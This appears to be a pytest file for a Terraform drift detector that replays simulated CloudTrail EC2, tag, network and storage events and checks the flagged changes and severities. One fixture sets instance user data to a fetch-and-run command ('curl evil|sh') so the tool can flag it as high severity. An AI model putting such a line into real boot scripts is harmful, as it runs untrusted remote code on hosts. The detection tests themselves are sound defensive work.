"""EC2 instance, tag and network rows through the real Engine and fold: tables of named cases."""

from __future__ import annotations

import base64
import hashlib
from typing import Any

import pytest

from tests.catalog.conftest import (
    TERRAFORM_UA,
    Expect,
    ResourceSpec,
    changes_of,
    check,
    make_event,
    make_index,
    run_events,
)
from tfdrift_gitops.models import CloudEvent, Kind, Severity

INSTANCE_ID = "i-0123456789abcdef0"
SECOND_ID = "i-0fedcba9876543210"
SG_A = "sg-0aaaaaaaaaaaaaaa1"
SG_B = "sg-0bbbbbbbbbbbbbbb2"
SCRIPT = "#!/bin/sh\necho hello\n"


def sha1(text: str) -> str:
    return hashlib.sha1(text.encode(), usedforsecurity=False).hexdigest()


def instance_attrs(instance_id: str = INSTANCE_ID, **extra: Any) -> dict[str, Any]:
    attrs: dict[str, Any] = {
        "id": instance_id,
        "arn": f"arn:aws:ec2:us-east-1:123456789012:instance/{instance_id}",
        "ami": "ami-0c3e8df62015275ea",
        "instance_type": "t3.micro",
        "disable_api_termination": True,
        "disable_api_stop": False,
        "source_dest_check": True,
        "ebs_optimized": False,
        "instance_initiated_shutdown_behavior": "stop",
        "vpc_security_group_ids": [SG_A, SG_B],
        "user_data": sha1(SCRIPT),
        "user_data_base64": None,
        "metadata_options": [
            {
                "http_endpoint": "enabled",
                "http_protocol_ipv6": "disabled",
                "http_put_response_hop_limit": 2,
                "http_tokens": "required",
                "instance_metadata_tags": "disabled",
            }
        ],
        "tags": {"Name": "api"},
        "tags_all": {"Name": "api", "Team": "platform"},
    }
    attrs.update(extra)
    return attrs


API: ResourceSpec = ("aws_instance", "api", instance_attrs())
WORKERS: list[ResourceSpec] = [
    ("aws_instance", "worker", instance_attrs(INSTANCE_ID), None, 0),
    ("aws_instance", "worker", instance_attrs(SECOND_ID), None, 1),
]


def modify(_time: int | None = None, **request: Any) -> CloudEvent:
    return make_event(
        "ModifyInstanceAttribute",
        "ec2",
        {"instanceId": INSTANCE_ID, **request},
        {"_return": True},
        time=_time,
    )


def imds(**fields: Any) -> CloudEvent:
    return make_event(
        "ModifyInstanceMetadataOptions",
        "ec2",
        {"ModifyInstanceMetadataOptionsRequest": {"InstanceId": INSTANCE_ID, **fields}},
        {"ModifyInstanceMetadataOptionsResponse": {"instanceId": INSTANCE_ID}},
    )


def instances_set(*ids: str) -> dict[str, Any]:
    return {"items": [{"instanceId": i} for i in ids]}


INSTANCE_CASES = [
    pytest.param(
        [API],
        [modify(instanceType={"value": "m5.4xlarge"})],
        Expect(
            Kind.MODIFIED,
            "aws_instance.api",
            {"instance_type": ("t3.micro", "m5.4xlarge")},
            Severity.MEDIUM,
        ),
        id="instance-type",
    ),
    pytest.param(
        [API],
        [modify(attribute="instanceType", value="m5.large")],
        Expect(Kind.MODIFIED, "aws_instance.api", {"instance_type": ("t3.micro", "m5.large")}),
        id="instance-type-attribute-value-form",
    ),
    pytest.param(
        [API],
        [modify(instanceType={"value": "t3.micro"})],
        Expect(skipped="no_change"),
        id="instance-type-already-in-state",
    ),
    pytest.param(
        [API],
        [modify(disableApiTermination={"value": False})],
        Expect(
            Kind.MODIFIED,
            "aws_instance.api",
            {"disable_api_termination": (True, False)},
            Severity.HIGH,
        ),
        id="termination-protection-off-is-high",
    ),
    pytest.param(
        [API],
        [
            modify(disableApiTermination={"value": "false"}, _time=1),
            modify(disableApiTermination={"value": True}, _time=2),
        ],
        Expect(resolved="reverted by alan@acme.example"),
        id="termination-protection-off-and-on-again-resolves",
    ),
    pytest.param(
        [API],
        [modify(userData="<sensitiveDataRemoved>")],
        Expect(
            Kind.MODIFIED,
            "aws_instance.api",
            {"user_data": ("(hidden)", "(hidden by CloudTrail)")},
            Severity.HIGH,
        ),
        id="user-data-hidden-is-never-claimed-equal",
    ),
    pytest.param(
        [API],
        [
            modify(userData="<sensitiveDataRemoved>", _time=1),
            make_event(
                "ModifyInstanceAttribute",
                "ec2",
                {"instanceId": INSTANCE_ID, "userData": "<sensitiveDataRemoved>"},
                time=2,
                user_agent=TERRAFORM_UA,
            ),
        ],
        Expect(
            Kind.MODIFIED,
            "aws_instance.api",
            {"user_data": ("(hidden)", "(hidden by CloudTrail)")},
        ),
        id="hidden-user-data-rewritten-by-terraform-is-not-proof-of-revert",
    ),
    pytest.param(
        [API],
        [modify(userData={"value": base64.b64encode(SCRIPT.encode()).decode()})],
        Expect(skipped="no_change"),
        id="visible-user-data-equal-to-state-hash",
    ),
    pytest.param(
        [API],
        [modify(userData={"value": base64.b64encode(b"#!/bin/sh\ncurl evil|sh\n").decode()})],
        Expect(
            Kind.MODIFIED,
            "aws_instance.api",
            {"user_data": (sha1(SCRIPT), sha1("#!/bin/sh\ncurl evil|sh\n"))},
            Severity.HIGH,
        ),
        id="visible-user-data-differs",
    ),
    pytest.param(
        [("aws_instance", "api", instance_attrs(user_data=None, user_data_base64="IyEvYmluL3No"))],
        [modify(userData={"value": "IyEvYmluL2Jhc2g="})],
        Expect(
            Kind.MODIFIED,
            "aws_instance.api",
            # user_data_base64 holds the script itself in state: masked in drift records.
            {"user_data_base64": ("(hidden)", "(hidden, changed)")},
        ),
        id="user-data-base64-attribute",
    ),
    pytest.param(
        [API],
        [modify(groupSet={"items": [{"groupId": SG_B}, {"groupId": SG_A}]})],
        Expect(skipped="no_change"),
        id="security-groups-same-set-other-order",
    ),
    pytest.param(
        [API],
        [modify(groupSet={"items": [{"groupId": SG_A}]})],
        Expect(
            Kind.MODIFIED, "aws_instance.api", {"vpc_security_group_ids": ([SG_A, SG_B], [SG_A])}
        ),
        id="security-groups-changed",
    ),
    pytest.param(
        [API],
        [
            modify(sourceDestCheck={"value": False}, _time=1),
            modify(instanceInitiatedShutdownBehavior={"value": "terminate"}, _time=2),
            modify(ebsOptimized={"value": True}, _time=3),
            modify(disableApiStop={"value": True}, _time=4),
        ],
        Expect(
            Kind.MODIFIED,
            "aws_instance.api",
            {
                "source_dest_check": (True, False),
                "instance_initiated_shutdown_behavior": ("stop", "terminate"),
                "ebs_optimized": (False, True),
                "disable_api_stop": (False, True),
            },
            Severity.MEDIUM,
        ),
        id="several-attributes-fold-into-one-drift",
    ),
    pytest.param(
        [API],
        [modify(kernel={"value": "aki-12345678"})],
        Expect(Kind.MODIFIED, "aws_instance.api", {}, Severity.MEDIUM),
        id="unmodelled-attribute-is-resource-level-not-skipped",
    ),
    pytest.param(
        [API],
        [imds(HttpTokens="optional")],
        Expect(
            Kind.MODIFIED,
            "aws_instance.api",
            {"metadata_options[0].http_tokens": ("required", "optional")},
            Severity.HIGH,
        ),
        id="imdsv1-re-enabled-is-high",
    ),
    pytest.param(
        [API],
        [imds(HttpPutResponseHopLimit="3", HttpEndpoint="enabled", InstanceMetadataTags="enabled")],
        Expect(
            Kind.MODIFIED,
            "aws_instance.api",
            {
                "metadata_options[0].http_put_response_hop_limit": (2, 3),
                "metadata_options[0].instance_metadata_tags": ("disabled", "enabled"),
            },
            Severity.MEDIUM,
        ),
        id="metadata-hop-limit-and-tags",
    ),
    pytest.param(
        [API],
        [
            make_event(
                "ModifyInstanceMetadataOptions",
                "ec2",
                {"instanceId": INSTANCE_ID, "httpTokens": "required", "httpEndpoint": "enabled"},
            )
        ],
        Expect(skipped="no_change"),
        id="metadata-flat-form-equal-to-state",
    ),
    pytest.param(
        [*WORKERS],
        [
            make_event(
                "TerminateInstances",
                "ec2",
                {"instancesSet": instances_set(INSTANCE_ID, SECOND_ID, "i-0999999999999999a")},
            )
        ],
        Expect(Kind.DELETED, "aws_instance.worker[1]", {}, Severity.HIGH, open_count=2),
        id="terminate-several-instances",
    ),
    pytest.param(
        [API],
        [make_event("StopInstances", "ec2", {"instancesSet": instances_set(INSTANCE_ID)})],
        Expect(skipped="not_in_catalog"),
        id="stop-is-not-configuration-drift",
    ),
    pytest.param(
        [API],
        [
            modify(instanceType={"value": "m5.large"}, _time=1),
            make_event(
                "TerminateInstances", "ec2", {"instancesSet": instances_set(INSTANCE_ID)}, time=2
            ),
        ],
        Expect(Kind.DELETED, "aws_instance.api", {}, Severity.HIGH),
        id="modified-then-terminated-becomes-deleted",
    ),
]


@pytest.mark.parametrize(("state", "events", "expect"), INSTANCE_CASES)
def test_instances(state: list[ResourceSpec], events: list[CloudEvent], expect: Expect) -> None:
    check(state, events, expect)


RUN = make_event(
    "RunInstances",
    "ec2",
    {
        "instancesSet": {
            "items": [{"imageId": "ami-0abcdef1234567890", "minCount": 2, "maxCount": 2}]
        },
        "instanceType": "c5.large",
        "subnetId": "subnet-0fa895b0ccbc1ab1f",
        "keyName": "ops",
        "groupSet": {"items": [{"groupId": SG_A}]},
        "tagSpecificationSet": {
            "items": [{"resourceType": "instance", "tags": [{"key": "Name", "value": "scratch"}]}]
        },
    },
    {
        "instancesSet": {
            "items": [
                {
                    "instanceId": "i-0a0000000000000a1",
                    "imageId": "ami-0abcdef1234567890",
                    "instanceType": "c5.large",
                    "subnetId": "subnet-0fa895b0ccbc1ab1f",
                    "keyName": "ops",
                    "groupSet": {"items": [{"groupId": SG_A, "groupName": "a"}]},
                },
                {
                    "instanceId": "i-0a0000000000000a2",
                    "imageId": "ami-0abcdef1234567890",
                    "instanceType": "c5.large",
                    "subnetId": "subnet-0aaaaaaaaaaaaaaa9",
                    "keyName": "ops",
                    "groupSet": {"items": [{"groupId": SG_A, "groupName": "a"}]},
                },
            ]
        }
    },
)


def test_run_instances_reports_each_launched_instance_unmanaged() -> None:
    outcome = run_events(make_index(API), [RUN])
    by_id = {d.resource.id: d for d in outcome.open}
    assert set(by_id) == {"i-0a0000000000000a1", "i-0a0000000000000a2"}
    second = {c.path: c.after for c in by_id["i-0a0000000000000a2"].changes}
    assert second == {
        "ami": "ami-0abcdef1234567890",
        "instance_type": "c5.large",
        "subnet_id": "subnet-0aaaaaaaaaaaaaaa9",
        "key_name": "ops",
        "vpc_security_group_ids": [SG_A],
        "tags": {"Name": "scratch"},
    }
    assert all(d.kind is Kind.UNMANAGED for d in outcome.open)


@pytest.mark.parametrize(
    "overrides",
    [
        pytest.param({"user_agent": "autoscaling.amazonaws.com"}, id="auto-scaling"),
        pytest.param({"user_agent": TERRAFORM_UA}, id="terraform"),
    ],
)
def test_run_instances_by_services_and_terraform_are_not_unmanaged(
    overrides: dict[str, Any],
) -> None:
    event = make_event("RunInstances", "ec2", RUN.request, RUN.response, **overrides)
    outcome = run_events(make_index(API), [event])
    assert outcome.open == []
    assert sum(outcome.skipped.values()) == 1


# --------------------------------------------------------------------------- tags


def tags_call(name: str, ids: list[str], tags: dict[str, Any], **kwargs: Any) -> CloudEvent:
    return make_event(
        name,
        "ec2",
        {
            "resourcesSet": {"items": [{"resourceId": i} for i in ids]},
            "tagSet": {
                "items": [
                    {"key": k} if v is None else {"key": k, "value": v} for k, v in tags.items()
                ]
            },
        },
        {"_return": True},
        **kwargs,
    )


VOLUME: ResourceSpec = (
    "aws_ebs_volume",
    "data",
    {"id": "vol-0421d4246dcfc2621", "size": 30, "type": "gp3", "tags": {"Name": "data"}},
)
KEY: ResourceSpec = (
    "aws_key_pair",
    "ops",
    {"id": "ops", "key_name": "ops", "key_pair_id": "key-0123456789abcdef0", "tags": None},
)

TAG_CASES = [
    pytest.param(
        [API],
        [tags_call("CreateTags", [INSTANCE_ID], {"Owner": "alan", "Name": "api"})],
        Expect(
            Kind.MODIFIED,
            "aws_instance.api",
            {"tags": ({"Name": "api"}, {"Name": "api", "Owner": "alan"})},
            Severity.LOW,
        ),
        id="create-tags-on-managed-instance",
    ),
    pytest.param(
        [API],
        [tags_call("CreateTags", [INSTANCE_ID], {"Team": "platform"})],
        Expect(skipped="no_change"),
        id="create-tags-with-provider-default-tag-value",
    ),
    pytest.param(
        [API],
        [tags_call("CreateTags", [INSTANCE_ID], {"Team": "data"})],
        Expect(
            Kind.MODIFIED,
            "aws_instance.api",
            {"tags": ({"Name": "api"}, {"Name": "api", "Team": "data"})},
        ),
        id="create-tags-overriding-provider-default-tag",
    ),
    pytest.param(
        [API],
        [tags_call("DeleteTags", [INSTANCE_ID], {"Name": None})],
        Expect(Kind.MODIFIED, "aws_instance.api", {"tags": ({"Name": "api"}, {})}, Severity.LOW),
        id="delete-tags-without-value",
    ),
    pytest.param(
        [API],
        [tags_call("DeleteTags", [INSTANCE_ID], {"Name": "web"})],
        Expect(skipped="no_change"),
        id="delete-tags-with-other-value-deletes-nothing",
    ),
    pytest.param(
        [API],
        [tags_call("DeleteTags", [INSTANCE_ID], {"Name": "api"})],
        Expect(Kind.MODIFIED, "aws_instance.api", {"tags": ({"Name": "api"}, {})}),
        id="delete-tags-with-matching-value",
    ),
    pytest.param(
        [API],
        [
            tags_call("CreateTags", [INSTANCE_ID], {"Owner": "alan"}, time=1),
            tags_call("DeleteTags", [INSTANCE_ID], {"Owner": None}, time=2),
        ],
        Expect(resolved="reverted by alan@acme.example"),
        id="tag-added-and-removed-again-resolves",
    ),
    pytest.param(
        [API, VOLUME],
        [
            tags_call(
                "CreateTags", ["i-0999999999999999a", "vol-0421d4246dcfc2621"], {"Backup": "daily"}
            )
        ],
        Expect(
            Kind.MODIFIED,
            "aws_ebs_volume.data",
            {"tags": ({"Name": "data"}, {"Name": "data", "Backup": "daily"})},
        ),
        id="mixed-ids-the-managed-volume-lands",
    ),
    pytest.param(
        [KEY],
        [tags_call("CreateTags", ["key-0123456789abcdef0"], {"Owner": "ops"})],
        Expect(Kind.MODIFIED, "aws_key_pair.ops", {"tags": (None, {"Owner": "ops"})}),
        id="key-pair-by-key-pair-id",
    ),
    pytest.param(
        [("aws_default_vpc", "default", {"id": "vpc-0d0d0d0d0d0d0d0d0", "tags": {}})],
        [tags_call("CreateTags", ["vpc-0d0d0d0d0d0d0d0d0"], {"Env": "dev"})],
        Expect(Kind.MODIFIED, "aws_default_vpc.default", {"tags": ({}, {"Env": "dev"})}),
        id="shared-prefix-default-vpc",
    ),
    pytest.param(
        [API],
        [tags_call("CreateTags", ["i-0999999999999999a"], {"Env": "dev"})],
        Expect(skipped="not_in_state"),
        id="tags-on-unknown-instance",
    ),
    pytest.param(
        [API],
        [tags_call("CreateTags", [INSTANCE_ID], {"Owner": "alan"}, user_agent=TERRAFORM_UA)],
        Expect(skipped="trusted_actor"),
        id="tags-by-terraform",
    ),
]


@pytest.mark.parametrize(("state", "events", "expect"), TAG_CASES)
def test_tags(state: list[ResourceSpec], events: list[CloudEvent], expect: Expect) -> None:
    check(state, events, expect)


# --------------------------------------------------------------------------- network and storage

VPC: ResourceSpec = (
    "aws_vpc",
    "main",
    {"id": "vpc-0a2d20c13642e37cc", "enable_dns_hostnames": True, "enable_dns_support": True},
)
SUBNET: ResourceSpec = (
    "aws_subnet",
    "private",
    {"id": "subnet-0fa895b0ccbc1ab1f", "map_public_ip_on_launch": False},
)

NETWORK_CASES = [
    pytest.param(
        [VPC],
        [
            make_event(
                "ModifyVpcAttribute",
                "ec2",
                {"vpcId": "vpc-0a2d20c13642e37cc", "enableDnsHostnames": {"value": False}},
            )
        ],
        Expect(
            Kind.MODIFIED, "aws_vpc.main", {"enable_dns_hostnames": (True, False)}, Severity.MEDIUM
        ),
        id="vpc-dns-hostnames-off",
    ),
    pytest.param(
        [VPC],
        [
            make_event(
                "ModifyVpcAttribute",
                "ec2",
                {"vpcId": "vpc-0a2d20c13642e37cc", "enableDnsSupport": {"value": "true"}},
            )
        ],
        Expect(skipped="no_change"),
        id="vpc-dns-support-unchanged",
    ),
    pytest.param(
        [SUBNET],
        [
            make_event(
                "ModifySubnetAttribute",
                "ec2",
                {"subnetId": "subnet-0fa895b0ccbc1ab1f", "mapPublicIpOnLaunch": {"value": True}},
            )
        ],
        Expect(
            Kind.MODIFIED,
            "aws_subnet.private",
            {"map_public_ip_on_launch": (False, True)},
            Severity.HIGH,
        ),
        id="subnet-public-ip-on-launch-is-high",
    ),
    pytest.param(
        [SUBNET],
        [
            make_event(
                "ModifySubnetAttribute",
                "ec2",
                {
                    "subnetId": "subnet-0fa895b0ccbc1ab1f",
                    "disableLniAtDeviceIndex": {"value": True},
                },
            )
        ],
        Expect(Kind.MODIFIED, "aws_subnet.private", {}),
        id="subnet-unmodelled-attribute-is-resource-level",
    ),
    pytest.param(
        [VPC],
        [make_event("DeleteVpc", "ec2", {"vpcId": "vpc-0a2d20c13642e37cc"})],
        Expect(Kind.DELETED, "aws_vpc.main", {}, Severity.HIGH),
        id="delete-vpc",
    ),
    pytest.param(
        [SUBNET],
        [make_event("DeleteSubnet", "ec2", {"subnetId": "subnet-0fa895b0ccbc1ab1f"})],
        Expect(Kind.DELETED, "aws_subnet.private", {}, Severity.HIGH),
        id="delete-subnet",
    ),
    pytest.param(
        [("aws_internet_gateway", "gw", {"id": "igw-0123456789abcdef0"})],
        [
            make_event(
                "DeleteInternetGateway", "ec2", {"internetGatewayId": "igw-0123456789abcdef0"}
            )
        ],
        Expect(Kind.DELETED, "aws_internet_gateway.gw", {}),
        id="delete-internet-gateway",
    ),
    pytest.param(
        [("aws_route_table", "public", {"id": "rtb-0123456789abcdef0"})],
        [make_event("DeleteRouteTable", "ec2", {"routeTableId": "rtb-0123456789abcdef0"})],
        Expect(Kind.DELETED, "aws_route_table.public", {}),
        id="delete-route-table",
    ),
    pytest.param(
        [("aws_nat_gateway", "nat", {"id": "nat-0123456789abcdef0"})],
        [
            make_event(
                "DeleteNatGateway",
                "ec2",
                {"DeleteNatGatewayRequest": {"NatGatewayId": "nat-0123456789abcdef0"}},
            )
        ],
        Expect(Kind.DELETED, "aws_nat_gateway.nat", {}),
        id="delete-nat-gateway-wrapped-request",
    ),
    pytest.param(
        [VOLUME],
        [make_event("DeleteVolume", "ec2", {"volumeId": "vol-0421d4246dcfc2621"})],
        Expect(Kind.DELETED, "aws_ebs_volume.data", {}, Severity.HIGH),
        id="delete-volume",
    ),
    pytest.param(
        [VOLUME],
        [
            make_event(
                "ModifyVolume",
                "ec2",
                {
                    "ModifyVolumeRequest": {
                        "VolumeId": "vol-0421d4246dcfc2621",
                        "Size": 100,
                        "VolumeType": "gp3",
                    }
                },
            )
        ],
        Expect(Kind.MODIFIED, "aws_ebs_volume.data", {"size": (30, 100)}),
        id="modify-volume-size",
    ),
    pytest.param(
        [("aws_eip", "nat", {"id": "eipalloc-0123456789abcdef0"})],
        [make_event("ReleaseAddress", "ec2", {"allocationId": "eipalloc-0123456789abcdef0"})],
        Expect(Kind.DELETED, "aws_eip.nat", {}),
        id="release-elastic-ip",
    ),
    pytest.param(
        [KEY],
        [make_event("DeleteKeyPair", "ec2", {"keyName": "ops"})],
        Expect(Kind.DELETED, "aws_key_pair.ops", {}),
        id="delete-key-pair-by-name",
    ),
    pytest.param(
        [KEY],
        [make_event("DeleteKeyPair", "ec2", {"keyPairId": "key-0123456789abcdef0"})],
        Expect(Kind.DELETED, "aws_key_pair.ops", {}),
        id="delete-key-pair-by-id",
    ),
    pytest.param(
        [KEY],
        [
            make_event(
                "ImportKeyPair",
                "ec2",
                {"keyName": "laptop", "publicKeyMaterial": "<sensitiveDataRemoved>"},
                {"keyName": "laptop", "keyPairId": "key-0aaaaaaaaaaaaaaa1"},
            )
        ],
        Expect(Kind.UNMANAGED, "laptop", {"key_name": (None, "laptop")}, Severity.MEDIUM),
        id="import-key-pair-is-unmanaged",
    ),
    pytest.param(
        [VPC],
        [
            make_event(
                "CreateVpc",
                "ec2",
                {"cidrBlock": "10.9.0.0/16", "instanceTenancy": "default"},
                {"vpc": {"vpcId": "vpc-0new0000000000001", "cidrBlock": "10.9.0.0/16"}},
            )
        ],
        Expect(
            Kind.UNMANAGED,
            "vpc-0new0000000000001",
            {"cidr_block": (None, "10.9.0.0/16"), "instance_tenancy": (None, "default")},
        ),
        id="create-vpc-is-unmanaged",
    ),
    pytest.param(
        [VPC],
        [
            make_event(
                "CreateSubnet",
                "ec2",
                {
                    "vpcId": "vpc-0a2d20c13642e37cc",
                    "cidrBlock": "10.0.9.0/24",
                    "availabilityZone": "us-east-1b",
                },
                {"subnet": {"subnetId": "subnet-0new000000000001"}},
            )
        ],
        Expect(
            Kind.UNMANAGED,
            "subnet-0new000000000001",
            {
                "vpc_id": (None, "vpc-0a2d20c13642e37cc"),
                "cidr_block": (None, "10.0.9.0/24"),
                "availability_zone": (None, "us-east-1b"),
            },
        ),
        id="create-subnet-is-unmanaged",
    ),
    pytest.param(
        [("aws_ebs_snapshot", "backup", {"id": "snap-041993b54a9b3af6f"})],
        [
            make_event(
                "ModifySnapshotAttribute",
                "ec2",
                {
                    "snapshotId": "snap-041993b54a9b3af6f",
                    "attributeType": "CREATE_VOLUME_PERMISSION",
                    "createVolumePermission": {"add": {"items": [{"group": "all"}]}},
                },
            )
        ],
        Expect(Kind.MODIFIED, "aws_ebs_snapshot.backup", {}, Severity.CRITICAL),
        id="snapshot-made-public-is-critical",
    ),
    pytest.param(
        [("aws_ebs_snapshot_copy", "backup", {"id": "snap-041993b54a9b3af6f"})],
        [
            make_event(
                "ModifySnapshotAttribute",
                "ec2",
                {
                    "snapshotId": "snap-041993b54a9b3af6f",
                    "createVolumePermission": {"add": {"items": [{"userId": "098797384747"}]}},
                },
            )
        ],
        Expect(Kind.MODIFIED, "aws_ebs_snapshot_copy.backup", {}, Severity.HIGH),
        id="snapshot-copy-shared-with-account-is-high",
    ),
    pytest.param(
        [("aws_ami", "base", {"id": "ami-0de1fbcab6ccb03e6"})],
        [
            make_event(
                "ModifyImageAttribute",
                "ec2",
                {
                    "imageId": "ami-0de1fbcab6ccb03e6",
                    "launchPermission": {"add": {"items": [{"userId": "846424999548"}]}},
                },
            )
        ],
        Expect(Kind.MODIFIED, "aws_ami.base", {}, Severity.HIGH),
        id="ami-shared-with-account-is-high",
    ),
]


@pytest.mark.parametrize(("state", "events", "expect"), NETWORK_CASES)
def test_network_and_storage(
    state: list[ResourceSpec], events: list[CloudEvent], expect: Expect
) -> None:
    check(state, events, expect)


def test_one_create_tags_call_on_several_managed_types_drifts_each() -> None:
    outcome = run_events(
        make_index(API, VOLUME),
        [tags_call("CreateTags", [INSTANCE_ID, "vol-0421d4246dcfc2621"], {"Backup": "daily"})],
    )
    addresses = sorted(d.resource.address for d in outcome.open)
    assert addresses == ["aws_ebs_volume.data", "aws_instance.api"]
    assert all(changes_of(d)["tags"][1]["Backup"] == "daily" for d in outcome.open)
